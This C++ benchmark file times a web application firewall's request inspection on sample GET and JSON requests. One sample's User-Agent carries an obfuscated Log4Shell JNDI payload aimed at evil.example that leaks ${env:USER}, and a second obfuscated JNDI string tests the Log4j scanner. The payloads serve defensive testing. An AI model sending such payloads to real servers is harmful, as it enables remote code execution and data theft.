// WAF cost per request: a ~1 KB request (the shapes of shared/bench/waf-peer/*.req, which the
// ModSecurity + CRS peer harness times at 2.0-3.7 ms each on this machine) through inspect() with
// all managed rules: normalization of every part, the Hyperscan prefilter, confirmation. Also the
// literal fallback engine, an attack request, and the Log4j resolver alone.
//   cmake -B build-bench -DPARAPET_BENCH=ON -DCMAKE_BUILD_TYPE=RelWithDebInfo
//   ninja -C build-bench -j2 parapet_micro && build-bench/bench/parapet_micro
//   --benchmark_filter=Waf
#include <benchmark/benchmark.h>

#include <string>
#include <vector>

#include "waf/engine.h"
#include "waf/log4j.h"

namespace parapet::waf {
namespace {

struct Sample {
  std::string path, query, body;
  std::vector<Field> headers;
  size_t bytes() const {
    size_t n = path.size() + query.size() + body.size();
    for (const auto& h : headers) n += h.name.size() + h.value.size() + 4;
    return n;
  }
  Request request() const { return {path, query, headers, body}; }
};

Sample get_request(std::string_view user_agent) {
  Sample s;
  s.path = "/default/shop/api/v1/products/search";
  s.query =
      "category=books&sort=price_asc&page=2&per_page=50&q=distributed+systems+design&lang=en-US&"
      "currency=EUR";
  s.headers = {
      {"Host", "shop.example.com"},
      {"User-Agent", user_agent},
      {"Accept", "application/json, text/plain, */*"},
      {"Accept-Language", "en-US,en;q=0.9,de;q=0.8"},
      {"Accept-Encoding", "gzip, deflate, br"},
      {"Referer", "https://shop.example.com/catalog/books?page=1"},
      {"Cookie",
       "session_id=3f9a1c2e7b5d4f60a8e1b2c3d4e5f607; theme=dark; consent=analytics%3D0%26ads%3D0; "
       "cart=5b1e2c; ab_bucket=B17"},
      {"Authorization",
       "Bearer "
       "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUgRG9lIiwia"
       "WF0IjoxNzE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"},
      {"X-Request-Id", "7c9e6679-7425-40de-944b-e07fc1f90ae7"},
      {"X-Forwarded-For", "203.0.113.42"},
      {"Sec-Fetch-Mode", "cors"},
      {"Sec-Fetch-Site", "same-origin"},
      {"Connection", "keep-alive"},
      {"X-Client-Trace",
       std::string_view("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
                        "aaaaaaaaaaaaaaaaaaaaaaaaaa")},
  };
  return s;
}

Sample post_json() {
  Sample s;
  s.path = "/default/openai/chat/completions";
  s.headers = {{"Host", "gateway.example.com"},
               {"User-Agent", "openai-python/1.30.1"},
               {"Accept", "application/json"},
               {"Content-Type", "application/json"},
               {"Authorization", "Bearer sk-test-0000000000000000000000000000000000000000"},
               {"X-Request-Id", "7c9e6679-7425-40de-944b-e07fc1f90ae7"},
               {"Content-Length", "718"}};
  s.body =
      R"({"model":"gpt-4o-mini","temperature":0.2,"max_tokens":256,"stream":false,"messages":[{"role":"system","content":"You are a concise assistant."},{"role":"user","content":"Summarise the following meeting notes in three bullet points. The team discussed the Q3 roadmap, agreed to move the billing migration to October, and asked for a design review of the caching layer before the next sprint. Budget questions were deferred to the finance sync on Thursday. Action items: Alice drafts the RFC, Bob updates the runbook, Carol schedules the load test and reports p99 latency."}],"metadata":{"note":")" +
      std::string(117, 'x') + "\"}}";
  return s;
}

constexpr std::string_view kBrowser =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36";

void run(benchmark::State& state, const Sample& s, RouteKind kind, bool hyperscan) {
  auto set = RuleSet::compile(managed_rules(), 0, "bench", hyperscan);
  if (!set) {
    state.SkipWithError(set.error().message.c_str());
    return;
  }
  Scanner scanner;
  Policy p;
  p.route = kind;
  Request r = s.request();
  for (auto _ : state) {
    Verdict v = inspect(**set, r, p, scanner);
    benchmark::DoNotOptimize(v);
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations() * s.bytes()));
  state.counters["bytes"] = static_cast<double>(s.bytes());
}

void BM_WafGet1K(benchmark::State& state) {
  run(state, get_request(kBrowser), RouteKind::kOrigin, true);
}
BENCHMARK(BM_WafGet1K);

void BM_WafGet1KLiteralFallback(benchmark::State& state) {
  run(state, get_request(kBrowser), RouteKind::kOrigin, false);
}
BENCHMARK(BM_WafGet1KLiteralFallback);

void BM_WafGet1KLog4shell(benchmark::State& state) {
  run(state,
      get_request("${${::-j}${::-n}${::-d}${::-i}:${lower:l}dap://${env:USER}.evil.example/a}"),
      RouteKind::kOrigin, true);
}
BENCHMARK(BM_WafGet1KLog4shell);

void BM_WafPostJson1KAi(benchmark::State& state) { run(state, post_json(), RouteKind::kAi, true); }
BENCHMARK(BM_WafPostJson1KAi);

void BM_WafPostJson1KOrigin(benchmark::State& state) {
  run(state, post_json(), RouteKind::kOrigin, true);
}
BENCHMARK(BM_WafPostJson1KOrigin);

void BM_WafLog4jScan(benchmark::State& state) {
  std::string s = "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//h/a}";
  for (auto _ : state) benchmark::DoNotOptimize(log4j::scan(s));
}
BENCHMARK(BM_WafLog4jScan);

}  // namespace
}  // namespace parapet::waf

namespace parapet::waf {
namespace {

// A long prompt (1 MiB of prose in one message): throughput of the body path on AI routes.
void BM_WafPostJson1MiBAi(benchmark::State& state) {
  Sample s = post_json();
  std::string prose;
  while (prose.size() < (1u << 20)) {
    prose += "The caching layer keeps answers for ${TTL:-300} seconds; see docs/cache.md. ";
  }
  s.body = R"({"model":"gpt-4o-mini","messages":[{"role":"user","content":")" + prose + "\"}]}";
  run(state, s, RouteKind::kAi, true);
}
BENCHMARK(BM_WafPostJson1MiBAi);

}  // namespace
}  // namespace parapet::waf
